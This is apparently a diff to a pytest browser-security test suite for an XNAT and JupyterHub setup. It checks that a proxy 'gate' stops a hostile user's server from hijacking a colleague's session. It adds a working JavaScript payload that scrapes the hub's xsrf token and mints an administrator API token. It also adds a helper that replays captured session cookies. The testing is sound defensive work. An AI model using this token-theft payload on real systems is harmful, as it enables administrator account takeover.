@@ -1,31 +1,47 @@
 """A hostile user's server against a colleague at a real Chromium, behind the shipped nginx file: what it gets, what he sees."""
 
 import threading
+from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import parse_qs, quote, urlsplit
 
 import pytest
 from playwright.sync_api import expect
+from requests import Session
 
 from tests.browser.conftest import ARGUMENTS, CHROMIUM, go, sign_in_to_xnat
+from tests.gate.servers import find_command
 from tests.noting import Notes, cookies_in, start
 from tests.proxies.web_servers import WebServer, install_web_servers, make_certificate
-from tests.support import RunningHub, free_port, new_standin, wait_until
+from tests.support import ROOT, RunningHub, free_port, new_standin, wait_until
 
 WAYS = (Path(__file__).parent / "ways.js").read_text()
 ATTACKER = "demo"
 COLLEAGUE = "Alice"
 ADMIN = "alice"
+# What the script of her page does: the hub signs its reader in silently, and a page of the hub holds what a token takes.
+THEFT = """
+async (user) => {
+  const hub = "/jupyterhub/hub";
+  const opened = window.open(`${hub}/token`, "_blank", "popup");
+  const xsrf = () => { try { return opened.jhdata.xsrf_token; } catch { return undefined; } };
+  for (let tries = 0; tries < 100 && !xsrf(); tries++) await new Promise((done) => setTimeout(done, 100));
+  const body = JSON.stringify({ note: "hers" });
+  const headers = { "Content-Type": "application/json" };
+  const made = await fetch(`${hub}/api/users/${user}/tokens?_xsrf=${xsrf()}`, { method: "POST", headers, body });
+  const xnat = await (await fetch("/xapi/users/username")).text();
+  return { xnat, status: made.status, token: (await made.json()).token };
+}
+"""
 REACHED_BY_THE_OWNER = 35
 """Of the ways of ways.js, at least so many reach the server from its owner's own page: they do ask for it."""
 
 
-@pytest.fixture(scope="module")
-def site(tmp_path_factory):
+@contextmanager
+def attacked(folder, extra=None):
     """XNAT and hub at one https address; the attacker's server runs, and notes all that it receives."""
     install_web_servers(["nginx"], "browser")
-    folder = tmp_path_factory.mktemp("attack")
     make_certificate(folder)
     port = free_port()
     address = f"https://localhost:{port}"
@@ -34,6 +50,7 @@ def site(tmp_path_factory):
             "xnat": {"public_url": address},
             "hub": {"public_url": f"{address}/jupyterhub/", "admin_users": [ADMIN]},
             "sign_in": {"foreign_servers": "ask"},
+            "extra": extra or {},
         }
         hub = RunningHub(folder, xnat, changes)
         hub.start()
@@ -52,6 +69,21 @@ def site(tmp_path_factory):
 
 
 @pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    with attacked(tmp_path_factory.mktemp("attack")) as hub:
+        yield hub
+
+
+@pytest.fixture(scope="module")
+def ungated(tmp_path_factory):
+    """The same with the proxy as it comes, which is what the hub ran before there was a gate."""
+    node, script = find_command()
+    command = [node, "--import", str(ROOT / "tests/gate/no_gate.mjs"), script]
+    with attacked(tmp_path_factory.mktemp("ungated"), {"ConfigurableHTTPProxy.command": command}) as hub:
+        yield hub
+
+
+@pytest.fixture(scope="module")
 def browser(chromium):
     """A Chromium that takes the tests' certificate for good, or it would run no service worker."""
     arguments = [*ARGUMENTS, "--ignore-certificate-errors"]
@@ -61,11 +93,12 @@ def browser(chromium):
 
 
 @pytest.fixture
-def signed_in(browser, site):
+def signed_in(browser, request):
     """Give a page of somebody's own browser, signed in to XNAT, and never before to the hub."""
     contexts = []
 
-    def new(name):
+    def new(name, site=None):
+        site = site or request.getfixturevalue("site")
         contexts.append(browser.new_context(ignore_https_errors=True))
         page = contexts[-1].new_page()
         page.set_default_timeout(60_000)
@@ -125,6 +158,38 @@ def try_all(page, site, base):
     return seen
 
 
+def names_in_xnat(site, requests):
+    """Return who XNAT takes the sender of these requests' cookies for."""
+    cookies = {each for request in requests for each in cookies_in(request) if "JSESSIONID" in each}
+    address = f"{site.xnat.url}/xapi/users/username"
+    return {Session().get(address, headers={"Cookie": each}, timeout=20).text for each in cookies}
+
+
+def test_without_the_gate_a_link_takes_over_an_administrator(ungated, signed_in):
+    page = signed_in(ADMIN, ungated)
+    go(page, ungated.grab)
+    expect(page.locator("body")).to_have_text("GRABBED")
+    assert names_in_xnat(ungated, ungated.noted()) == {ADMIN}
+    stolen = page.evaluate(THEFT, ADMIN)
+    assert (stolen["xnat"], stolen["status"]) == (ADMIN, 201)
+    mine = Session().get(f"{ungated.url}/hub/api/user", headers={"Authorization": f"token {stolen['token']}"})
+    assert (mine.json()["name"], mine.json()["admin"]) == (ADMIN, True)
+    # And by many of the ways that the tests below count.
+    go(page, ungated.grab)
+    ungated.noted()
+    try_all(page, ungated, f"{ungated.web}/jupyterhub/hub/health")
+    noted = ungated.noted()
+    assert len(ways_of(noted)) >= REACHED_BY_THE_OWNER
+    assert names_in_xnat(ungated, noted) == {ADMIN}
+
+
+def test_with_the_gate_the_same_link_gets_nothing(site, signed_in):
+    page = signed_in(ADMIN)
+    go(page, site.grab)
+    told_whose_it_is(page, ADMIN)
+    assert site.noted() == []
+
+
 def ways_of(requests):
     return {parse_qs(urlsplit(address).query).get("way", ["?"])[0] for _, address, _ in requests}
 
@@ -151,7 +216,7 @@ def test_the_ways_reach_their_owner_s_server_and_bring_no_foreign_cookie(site, s
 def test_no_way_reaches_it_from_a_colleague_s_browser(site, signed_in, elsewhere, base):
     page = signed_in(COLLEAGUE)
     seen = try_all(page, site, f"{site.web}/jupyterhub/hub/health" if base == "xnat's origin" else elsewhere)
-    assert len(seen) >= 50
+    assert len(seen) >= 75
     assert not [way for way, text in seen.items() if "GRABBED" in text]
     assert site.noted() == []
 
@@ -168,9 +233,9 @@ def test_nor_once_he_has_a_server_of_his_own(site, signed_in):
     site.plugin.stop(COLLEAGUE)
 
 
-def told_whose_it_is(page):
+def told_whose_it_is(page, name=COLLEAGUE):
     expect(page.get_by_role("heading", name="This is the server of demo")).to_be_visible()
-    expect(page.locator("body")).to_contain_text(f"You are {COLLEAGUE}")
+    expect(page.locator("body")).to_contain_text(f"You are {name}")
 
 
 @pytest.mark.parametrize("way", ["address", "token", "login", "gate", "spawn", "dots", "percent"])
